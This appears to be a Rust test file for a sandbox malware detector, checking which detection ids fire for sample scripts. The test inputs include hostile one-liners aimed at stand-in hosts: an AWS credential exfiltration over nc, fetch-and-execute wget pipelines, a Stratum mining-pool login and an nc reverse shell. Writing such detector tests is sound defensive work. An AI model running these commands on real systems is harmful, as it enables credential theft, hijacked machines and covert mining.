//! What scripts are accused of.

use crate::image::run;
use model::Role;

type Case = (&'static str, fn());

pub(crate) const CASES: &[Case] = &[
    ("a_script_that_does_nothing", a_script_that_does_nothing),
    ("a_login_at_a_pool", a_login_at_a_pool),
    ("a_download_that_is_run", a_download_that_is_run),
    ("secrets_that_leave", secrets_that_leave),
    ("a_long_wait_before_it_mines", a_long_wait_before_it_mines),
    ("a_reverse_shell", a_reverse_shell),
];

/// The ids of what convicts or corroborates, sorted.
fn accused(script: &str) -> Vec<String> {
    let detonation = run(script, 25);
    let mut ids: Vec<String> = detonation
        .outcome
        .findings
        .iter()
        .filter(|finding| finding.role != Role::Context)
        .map(|finding| finding.id.clone())
        .collect();
    ids.sort();
    ids.dedup();
    if std::env::var_os("SHOW").is_some() {
        for finding in &detonation.outcome.findings {
            println!("  {} {} {:?}", finding.id, finding.explanation, finding.evidence);
        }
        for run in &detonation.runs {
            println!(
                "  run {} {} events {} ms skipped {} s: {}",
                run.name, run.events, run.milliseconds, run.skipped, run.ended
            );
            println!("  {:?} {:?}", run.limitations, String::from_utf8_lossy(&run.output));
        }
        println!("  gaps {:?} not {:?}", detonation.outcome.gaps, detonation.summary.not_exercised);
    }
    ids
}

fn a_script_that_does_nothing() {
    assert_eq!(accused("echo hello; id; ls /"), [""; 0]);
}

const LOGIN: &str = r#"{"id":1,"jsonrpc":"2.0","method":"login","params":{"login":"someone","pass":"x","agent":"w/1","algo":["rx/0"]}}"#;

fn a_login_at_a_pool() {
    let ids = accused(&format!("(echo '{LOGIN}'; sleep 2) | nc pool.invalid 443"));
    assert!(ids.contains(&"D-MIN-STRATUM".to_owned()), "{ids:?}");
}

fn a_download_that_is_run() {
    let ids = accused("wget -q -O /tmp/x http://203.0.113.7/x.sh && chmod +x /tmp/x && /tmp/x");
    assert!(ids.contains(&"D-DLX-FETCHEXEC".to_owned()), "{ids:?}");
    let ids = accused("wget -q -O - http://203.0.113.7/x.sh | sh");
    assert!(ids.contains(&"D-DLX-PIPESH".to_owned()), "{ids:?}");
}

fn secrets_that_leave() {
    let ids = accused("cat $HOME/.aws/credentials | base64 | nc -w 2 203.0.113.7 8080");
    assert!(ids.contains(&"D-EXF-CANARY".to_owned()), "{ids:?}");
}

fn a_long_wait_before_it_mines() {
    let ids = accused(&format!("sleep 21600; (echo '{LOGIN}'; sleep 1) | nc pool.invalid 3333"));
    assert!(ids.contains(&"D-MIN-STRATUM".to_owned()), "{ids:?}");
}

fn a_reverse_shell() {
    let ids = accused("nc 203.0.113.7 4444 -e /bin/sh");
    assert!(ids.contains(&"D-C2-REVSH".to_owned()), "{ids:?}");
    assert!(ids.contains(&"D-C2-ELICIT".to_owned()), "{ids:?}");
}
